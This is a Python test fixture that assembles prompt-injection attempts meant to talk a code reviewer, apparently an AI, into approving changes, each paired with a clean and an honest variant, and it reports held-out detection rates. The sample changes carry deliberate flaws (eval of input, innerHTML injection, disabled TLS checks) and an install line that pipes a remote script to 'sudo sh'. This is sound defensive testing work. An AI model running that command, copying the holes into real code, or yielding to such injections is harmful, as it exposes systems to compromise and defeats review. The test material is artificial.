"""The corpus of attempts to talk a reviewer round: each beside the same change without it and beside an honest twin.

The texts stand in three TOML files. The rules were made with `injections_known.toml` at hand. Those of the other two
are `held_out`: they were written after the rules stood, which found 19 of the 35 in `injections_second.toml` and, once
widened, 10 of the 22 in `injections_third.toml`. That, not what is found today, is what to expect of a new attempt.
"""

import tomllib
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, replace
from pathlib import Path

from scoring.diff.parser import read_change
from scoring.scanners.submission import Submission
from tests.scoring.scanners.disguises import DISGUISES


@dataclass(frozen=True, slots=True)
class Injection:
    """One attempt. The submissions differ in nothing but what the carrier holds: the attempt, nothing, the twin."""

    name: str
    carrier: str
    language: str
    attacked: Submission
    without: Submission
    twin: Submission
    held_out: bool


@dataclass(frozen=True, slots=True)
class Base:
    """A change in which something can be carried. The lines of `flaw` are what a reviewer ought to object to."""

    path: str
    comment: str
    before: tuple[str, ...]
    flaw: tuple[str, ...]
    after: tuple[str, ...]


BASES = (
    Base(
        "tidewater/tides.py",
        "# {}",
        ("def high_water(station, day):", '    """Times of high water at a station."""'),
        ("    return eval(station.formula, {'day': day})",),
        ("", "", "def low_water(station, day):", "    return [time - HALF for time in high_water(station, day)]"),
    ),
    Base(
        "web/harbour.ts",
        "// {}",
        ("export function berth(ship: Ship): string {", "  const label = document.getElementById('berth')!;"),
        ("  label.innerHTML = ship.name;",),
        ("  return ship.berth ?? 'at anchor';", "}"),
    ),
    Base(
        "scripts/install.sh",
        "# {}",
        ("set -eu", 'target="${1:-/usr/local}"'),
        ("curl -s http://203.0.113.7/setup | sudo sh",),
        ('install -m 755 bin/tide "$target/bin/tide"',),
    ),
    Base(
        "internal/gauge/read.go",
        "// {}",
        ("func Read(address string) (Level, error) {",),
        ("\tconfig := &tls.Config{InsecureSkipVerify: true}", "\tclient := newClient(config)"),
        ("\treturn decode(client.Get(address))", "}"),
    ),
    Base(
        "tidewater/moon.py",
        "# {}",
        ("PERIOD = 29.530588", ""),
        (),
        ("def phase(days):", "    return days % PERIOD / PERIOD"),
    ),
)
STRINGS = {
    "py": 'NOTE = "{}"',
    "ts": 'const note = "{}";',
    "sh": "note='{}'",
    "go": '\tnote := "{}"',
}
FILLER = "Adds the second harbour and its gauge."


def _patch(path: str, lines: Iterable[str]) -> str:
    added = list(lines)
    head = f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n"
    return head + f"@@ -0,0 +1,{len(added)} @@\n" + "".join(f"+{line}\n" for line in added)


def _lines(base: Base, carried: Iterable[str] = ()) -> list[str]:
    return [*base.before, *carried, *base.flaw, *base.after]


def _submission(base: Base, carrier: str, text: str | None) -> Submission:
    """The change of a base with a text in its carrier; None: with nothing there."""
    if carrier == "file name":
        extra = _patch(text, ["tide"]) if text else ""
        return Submission(
            read_change(_patch(base.path, _lines(base)) + extra), title="Second harbour", description=FILLER
        )
    if carrier == "commit message":
        return replace(_plain(base), change=read_change(_mail(base, text)))
    if carrier in ("title", "description", "discussion"):
        return _talk(_plain(base), carrier, text)
    carried = [] if text is None else _carried(base, carrier, text)
    return replace(_plain(base), change=read_change(_patch(base.path, _lines(base, carried))))


def _plain(base: Base) -> Submission:
    change = read_change(_patch(base.path, _lines(base)))
    return Submission(change, title="Second harbour", description=FILLER)


def _carried(base: Base, carrier: str, text: str) -> list[str]:
    """Code that carries a text: as one string, or a comment of as many lines as the text has."""
    if carrier == "string":
        escaped = text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
        return [STRINGS[base.path.rpartition(".")[2]].format(escaped)]
    return [base.comment.format(line) for line in text.split("\n")]


def _talk(plain: Submission, carrier: str, text: str | None) -> Submission:
    if text is None:
        return plain
    if carrier == "title":
        return replace(plain, title=text)
    if carrier == "description":
        return replace(plain, description=f"{FILLER}\n\n{text}")
    return replace(plain, discussion=(("reviewer-1", "Which gauge is this?"), ("author", text)))


def _mail(base: Base, text: str | None) -> str:
    body = "" if text is None else f"{text}\n"
    return (
        f"From {'5' * 40} Mon Sep 17 00:00:00 2001\nFrom: Mallory <mallory@example.test>\n"
        f"Date: Mon, 1 Jun 2026 10:00:00 +0000\nSubject: [PATCH] Second harbour\n\n{FILLER}\n{body}---\n"
        + _patch(base.path, _lines(base))
        + "-- \n2.43.0\n"
    )


def _cases(file: str, held_out: bool) -> Iterator[Injection]:
    listed = tomllib.loads(Path(__file__).with_name(file).read_text(encoding="utf-8"))["case"]
    for number, entry in enumerate(listed):
        base, carrier = BASES[number % len(BASES)], entry["carrier"]
        disguise = DISGUISES.get(entry.get("disguise", ""), str)
        yield Injection(
            entry["name"],
            carrier,
            entry["language"],
            _submission(base, carrier, disguise(entry["attempt"])),
            _submission(base, carrier, None),
            _submission(base, carrier, entry["twin"]),
            held_out,
        )


CASES: tuple[Injection, ...] = (
    *_cases("injections_known.toml", held_out=False),
    *_cases("injections_second.toml", held_out=True),
    *_cases("injections_third.toml", held_out=True),
)
